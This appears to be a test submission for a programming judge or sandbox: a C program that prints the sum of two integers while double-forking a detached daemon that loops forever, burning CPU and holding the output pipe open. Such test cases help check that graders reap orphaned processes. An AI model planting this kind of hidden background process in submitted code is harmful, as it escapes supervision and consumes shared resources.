/* A daemon of its own keeps the pipe open and the CPU busy after the right answer. */
#include <stdio.h>
#include <unistd.h>
int main(void) {
    int a, b;
    scanf("%d %d", &a, &b);
    if (fork() == 0) {
        setsid();
        if (fork() == 0) {
            volatile unsigned long x = 0;
            for (;;) x++;
        }
        _exit(0);
    }
    printf("%d\n", a + b);
    return 0;
}
